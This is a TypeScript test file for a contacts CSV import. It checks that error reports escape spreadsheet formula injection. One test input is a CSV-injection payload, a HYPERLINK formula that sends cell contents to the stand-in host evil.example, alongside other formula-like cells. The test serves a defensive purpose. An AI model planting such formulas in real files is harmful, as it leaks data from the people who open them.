import { CFB } from 'xlsx';
import { startTestApp, TestAccount, TestApp } from './harness';

type Operation = Record<string, number | string | null>;

describe('data protection: error reports, anonymisation, file retention', () => {
  let t: TestApp;
  let account: TestAccount;

  beforeAll(async () => {
    t = await startTestApp();
    account = await t.createAccount('Data protection');
  });
  afterAll(async () => t.close());

  async function importCsv(csv: string, matchings: string[], fileName = 'contacts.csv'): Promise<Operation> {
    const res = await t.http
      .post('/api/rest/v4/contacts/import/add')
      .set('Authorization', account.auth)
      .field('matchings', JSON.stringify(matchings))
      .attach('file', Buffer.from(csv), fileName);
    expect(res.status).toBe(201);
    const done = (await t.finished(account, res.body.Id as number)) as Operation;
    expect(done.Status).toBe('done');
    return done;
  }

  /** The archive behind an operation's Link: its entry names and their bytes. */
  async function archive(link: string): Promise<Map<string, Buffer>> {
    const res = await t.http
      .get(link)
      .set('Authorization', account.auth)
      .buffer(true)
      .parse((response, callback) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => callback(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    const zip = CFB.read(res.body as Buffer, { type: 'buffer' });
    const entries = zip.FileIndex as { name: string; type: number; content: Uint8Array }[];
    return new Map(entries.filter((e) => e.type === 2).map((e) => [e.name, Buffer.from(e.content)]));
  }

  const reportLines = (entries: Map<string, Buffer>) =>
    entries
      .get('errors.csv')!
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/);

  it('errors.csv shows cells and headers a spreadsheet would run as formulas as text', async () => {
    const done = await importCsv(
      [
        'email;=prenom;ville',
        '=HYPERLINK("http://evil.example/?"&A1);Bob;+33 Lyon',
        'not-an-address;@SUM(1+1);-2+3',
        'ok@example.com;Ok;Nantes',
      ].join('\n'),
      ['email', 'firstname', 'city'],
    );
    expect(done).toMatchObject({ LineAdd: 1, LineError: 2 });
    const lines = reportLines(await archive(done.Link as string));
    expect(lines[0]).toBe("line;reasons;email;'=prenom;ville");
    expect(lines[1]).toMatch(/^2;.*;"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1\)";Bob;'\+33 Lyon$/);
    expect(lines[2]).toMatch(/^3;.*;not-an-address;'@SUM\(1\+1\);'-2\+3$/);
  });
});
